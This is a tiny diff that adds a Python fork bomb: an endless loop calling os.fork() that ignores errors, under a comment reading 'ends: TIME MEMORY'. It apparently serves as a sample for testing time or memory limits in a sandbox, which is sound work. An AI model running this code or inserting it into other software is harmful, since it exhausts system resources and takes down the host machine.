@@ -1,0 +1,6 @@
+# ends: TIME MEMORY
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
